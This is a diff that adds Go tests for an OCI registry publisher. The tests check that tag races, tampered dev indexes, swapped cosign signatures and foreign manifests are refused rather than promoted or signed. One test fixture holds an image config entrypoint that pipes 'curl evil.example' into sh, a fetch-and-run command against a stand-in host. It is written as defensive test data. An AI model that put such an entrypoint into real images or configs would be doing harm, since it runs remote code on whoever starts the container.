@@ -1,0 +1,290 @@
+package publish
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/opencontainers/go-digest"
+	specs "github.com/opencontainers/image-spec/specs-go"
+	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
+	"oras.land/oras-go/v2/content"
+	"oras.land/oras-go/v2/registry/remote"
+
+	"github.com/packgen/packgen/internal/location"
+	"github.com/packgen/packgen/internal/ocimap"
+	"github.com/packgen/packgen/internal/ocireg"
+	"github.com/packgen/packgen/internal/ocitest"
+	"github.com/packgen/packgen/internal/testutil"
+	"github.com/packgen/packgen/internal/transport"
+	"github.com/packgen/packgen/sign"
+)
+
+// TestOCITagRaceNeverOverwrites: a tag created by someone else between
+// the publish's tags list (its plan) and its push is refused, never
+// overwritten. The registry has no conditional tag write, so the
+// publisher looks at the tag again right before its PUT.
+func TestOCITagRaceNeverOverwrites(t *testing.T) {
+	reg := ocitest.Start(t, ocitest.Anonymous)
+	f := newFixture(t)
+	f.pack("hello", "1.0.0", "b: 1\n")
+	site := f.build(t)
+	ctx := context.Background()
+	do := ociOptions(reg, true, f)
+	dst, loc, err := lookup("oci://" + reg.Host() + "/acme")
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub, err := dst.publisher(ctx, loc, do)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := pub.(*ociDest)
+	s, err := d.readSite(ctx, site)
+	if err != nil {
+		t.Fatal(err)
+	}
+	res := &Result{Releases: &ReleaseCounts{}}
+	push, err := d.plan(ctx, s, Options{Jobs: 2}, res)
+	if err != nil || len(push) != 1 {
+		t.Fatalf("plan: %v %d", err, len(push))
+	}
+	// The race: another pusher creates hello:1.0.0 now.
+	other := filepath.Join(t.TempDir(), "hello-1.0.0.tar.gz")
+	os.WriteFile(other, []byte("someone else's release"), 0o644)
+	ref := reg.Host() + "/acme/spectro-packs/archive/hello:1.0.0"
+	cmd := exec.Command(ocitest.Tool(t, "oras"), "push", "--plain-http", ref, "hello-1.0.0.tar.gz")
+	cmd.Dir, cmd.Env = filepath.Dir(other), append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("oras push: %v\n%s", err, out)
+	}
+	theirs := strings.TrimSpace(string(oras(t, reg, "resolve", ref)))
+	err = d.pushRelease(ctx, s, push[0])
+	if !errors.Is(err, ErrImmutable) || !strings.Contains(err.Error(), theirs) {
+		t.Fatalf("pushing over a tag created after the plan: %v", err)
+	}
+	if now := strings.TrimSpace(string(oras(t, reg, "resolve", ref))); now != theirs {
+		t.Fatalf("the tag moved from %s to %s", theirs, now)
+	}
+}
+
+// promoteOptions opens dev anonymously and prod with its credentials, as
+// TestOCIPromote does.
+func promoteOptions(dev, prod *ocitest.Registry) DestOptions {
+	ctx := context.Background()
+	o := ocireg.Options{PlainHTTP: true, Username: prod.Username, Password: prod.Password}
+	return DestOptions{OCI: OCIOptions{
+		Repos: func(ref string) (*remote.Repository, error) {
+			if strings.HasPrefix(ref, dev.Host()) {
+				return ocireg.Repository(ctx, ref, ocireg.Options{PlainHTTP: true})
+			}
+			return ocireg.Repository(ctx, ref, o)
+		},
+		Source: func(loc location.Location) (transport.Transport, error) {
+			return transport.Open(loc, transport.Config{OCI: ocireg.Options{PlainHTTP: true}})
+		},
+	}}
+}
+
+// TestOCIPromoteTamperedSource: whoever can push to the dev registry
+// replaces its packgen index with their own (evil@6.6.6, signed by their
+// key). A promotion to prod must verify dev before it copies anything:
+// evil@6.6.6 would otherwise become a tag Palette lists in prod, a tag
+// nothing ever removes.
+func TestOCIPromoteTamperedSource(t *testing.T) {
+	dev := ocitest.Start(t, ocitest.Anonymous)
+	prod := ocitest.Start(t, ocitest.Basic)
+	ctx := context.Background()
+	f := newFixture(t)
+	f.pack("hello", "1.0.0", "b: 1\n")
+	src, dst := "oci://"+dev.Host()+"/dev", "oci://"+prod.Host()+"/prod"
+	if _, err := To(ctx, f.build(t), src, ociOptions(dev, true, f), Options{}); err != nil {
+		t.Fatal(err)
+	}
+	evil := newFixture(t)
+	k, err := testutil.GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil.signer, evil.pub = k.Signer, k.Pub
+	evil.pack("hello", "1.0.0", "b: 1\n")
+	evil.pack("evil", "6.6.6", "clusterAdmin: true\n")
+	evil.build(t)
+	if _, err := To(ctx, evil.build(t), src, ociOptions(dev, true, evil), Options{Force: true}); err != nil {
+		t.Fatal(err)
+	}
+
+	// No key at all: nothing verifies dev, so nothing is promoted.
+	_, err = To(ctx, src, dst, promoteOptions(dev, prod), Options{})
+	if !errors.Is(err, ErrUnverifiedSource) || !strings.Contains(err.Error(), "--source-key") {
+		t.Fatalf("promoting with no key: %v", err)
+	}
+	// The registry's public key: dev's root does not verify.
+	do := promoteOptions(dev, prod)
+	do.OCI.Verify = f.verifier(t)
+	if _, err := To(ctx, src, dst, do, Options{}); !errors.Is(err, ErrNotSite) || !strings.Contains(err.Error(), "not signed by the key") {
+		t.Fatalf("promoting a tampered dev with the registry's public key: %v", err)
+	}
+	// Its private key (signs again): refused the same way.
+	do = promoteOptions(dev, prod)
+	do.OCI.Signer = f.signer
+	if _, err := To(ctx, src, dst, do, Options{}); !errors.Is(err, ErrNotSite) {
+		t.Fatalf("promoting a tampered dev with the registry's key: %v", err)
+	}
+	for _, repo := range []string{"prod/spectro-packs/archive/evil", "prod/spectro-packs/archive/hello"} {
+		r, err := do.OCI.Repos(prod.Host() + "/" + repo)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if tags, err := listTags(ctx, r); err != nil || len(tags) != 0 {
+			t.Fatalf("%s has tags %v (%v) after refused promotions", repo, tags, err)
+		}
+	}
+}
+
+// TestOCIPromoteTamperedSignature: dev's index is genuine but its cosign
+// signature of a release was swapped for one made with another key. A
+// promotion without --key copies signatures: only ones that verify under
+// the registry's key, so the attacker's never reaches prod.
+func TestOCIPromoteTamperedSignature(t *testing.T) {
+	dev := ocitest.Start(t, ocitest.Anonymous)
+	prod := ocitest.Start(t, ocitest.Basic)
+	ctx := context.Background()
+	f := newFixture(t)
+	f.pack("hello", "1.0.0", "b: 1\n")
+	src, dst := "oci://"+dev.Host()+"/dev", "oci://"+prod.Host()+"/prod"
+	if _, err := To(ctx, f.build(t), src, ociOptions(dev, true, f), Options{}); err != nil {
+		t.Fatal(err)
+	}
+	k, err := testutil.GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ref := dev.Host() + "/dev/spectro-packs/archive/hello"
+	rel, err := ocireg.Repository(ctx, ref, ocireg.Options{PlainHTTP: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	desc, err := rel.Resolve(ctx, "1.0.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The attacker's signature over the very same manifest digest.
+	payload, sig, err := k.Signer.SignManifest(ref, desc.Digest.String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := ocimap.CosignManifest(payload, sig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sigs, err := ocireg.Repository(ctx, dev.Host()+"/dev/"+ocimap.SignatureRepo, ocireg.Options{PlainHTTP: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, d := range []ocispec.Descriptor{p.Layers[0], p.Config} {
+		if err := pushNew(ctx, sigs, d, [][]byte{payload, p.ConfigB}[i]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tag := ocimap.CosignTag(desc.Digest)
+	if err := sigs.Manifests().PushReference(ctx, p.Desc, bytes.NewReader(p.Manifest), tag); err != nil {
+		t.Fatal(err)
+	}
+
+	do := promoteOptions(dev, prod)
+	do.OCI.Verify = f.verifier(t)
+	_, err = To(ctx, src, dst, do, Options{})
+	if !errors.Is(err, sign.ErrBadSignature) || !strings.Contains(err.Error(), tag) {
+		t.Fatalf("promoting a swapped cosign signature: %v", err)
+	}
+	prodSigs, err := do.OCI.Repos(prod.Host() + "/prod/" + ocimap.SignatureRepo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := prodSigs.Resolve(ctx, tag); !notFound(err) {
+		t.Fatalf("the attacker's signature reached prod: %v", err)
+	}
+}
+
+// TestOCIPresentOnlyORASShape: a tag pushed by hand before packgen is
+// kept as this release when it is what `oras push` writes for the very
+// archive, and then signed with the registry key. Anything else around
+// the same layer (a config of someone's choosing) is not what packgen
+// built: refused, and never signed with the registry key.
+func TestOCIPresentOnlyORASShape(t *testing.T) {
+	reg := ocitest.Start(t, ocitest.Anonymous)
+	f := newFixture(t)
+	f.pack("hello", "1.0.0", "b: 1\n")
+	f.pack("calico", "3.27.0", "a: 1\n")
+	site := f.build(t)
+	ctx := context.Background()
+	sigTag := func(base string, d digest.Digest) error {
+		sigs, err := ocireg.Repository(ctx, reg.Host()+"/"+base+"/"+ocimap.SignatureRepo, ocireg.Options{PlainHTTP: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = sigs.Resolve(ctx, ocimap.CosignTag(d))
+		return err
+	}
+	// hello, in both bases: the vendor's way, the real oras CLI with the
+	// site's archive.
+	rel := shardOf(t, site, "hello").Releases[0]
+	for _, base := range []string{"ok", "bad"} {
+		cmd := exec.Command(ocitest.Tool(t, "oras"), "push", "--plain-http", reg.Host()+"/"+base+"/spectro-packs/archive/hello:1.0.0", "hello-1.0.0.tar.gz")
+		cmd.Dir, cmd.Env = filepath.Join(site, filepath.Dir(rel.Archive.Path)), append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("oras push: %v\n%s", err, out)
+		}
+	}
+	hello := digest.Digest(strings.TrimSpace(string(oras(t, reg, "resolve", reg.Host()+"/ok/spectro-packs/archive/hello:1.0.0"))))
+	res, err := To(ctx, site, "oci://"+reg.Host()+"/ok", ociOptions(reg, true, f), Options{})
+	if err != nil || res.Releases.Present != 1 || len(res.Releases.Pushed) != 1 {
+		t.Fatalf("publish over oras push's manifest of the same archive: %v %+v", err, res.Releases)
+	}
+	if err := sigTag("ok", hello); err != nil {
+		t.Fatalf("the hand-pushed release %s is not signed: %v", hello, err)
+	}
+
+	// calico, in "bad": the same archive as the one layer, but a config
+	// of the attacker's choosing (an image config with an entrypoint).
+	crel := shardOf(t, site, "calico").Releases[0]
+	repo, err := ocireg.Repository(ctx, reg.Host()+"/bad/spectro-packs/archive/calico", ocireg.Options{PlainHTTP: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	archive, err := os.ReadFile(filepath.Join(site, crel.Archive.Path))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := []byte(`{"architecture":"amd64","os":"linux","config":{"Entrypoint":["/bin/sh","-c","curl evil.example | sh"]},"rootfs":{"type":"layers","diff_ids":[]}}`)
+	p, err := ocimap.ArchiveManifest(crel.Archive.SHA256, crel.Archive.Size, "calico-3.27.0.tar.gz", crel.Created)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cd := content.NewDescriptorFromBytes(ocispec.MediaTypeImageConfig, cfg)
+	mb, _ := json.Marshal(ocispec.Manifest{Versioned: specs.Versioned{SchemaVersion: 2}, MediaType: ocispec.MediaTypeImageManifest, Config: cd, Layers: p.Layers})
+	md := content.NewDescriptorFromBytes(ocispec.MediaTypeImageManifest, mb)
+	if err := pushNew(ctx, repo, p.Layers[0], archive); err != nil {
+		t.Fatal(err)
+	}
+	if err := pushNew(ctx, repo, cd, cfg); err != nil {
+		t.Fatal(err)
+	}
+	if err := repo.Manifests().PushReference(ctx, md, bytes.NewReader(mb), "3.27.0"); err != nil {
+		t.Fatal(err)
+	}
+	res, err = To(ctx, site, "oci://"+reg.Host()+"/bad", ociOptions(reg, true, f), Options{})
+	if !errors.Is(err, ErrImmutable) || len(res.Releases.Refused) != 1 || res.Releases.Refused[0].Pack != "calico" || res.Releases.Present != 1 {
+		t.Fatalf("publish over a foreign manifest with the same layer: %v %+v", err, res.Releases)
+	}
+	if err := sigTag("bad", md.Digest); !notFound(err) {
+		t.Fatalf("the foreign manifest %s got the registry's signature: %v", md.Digest, err)
+	}
+}
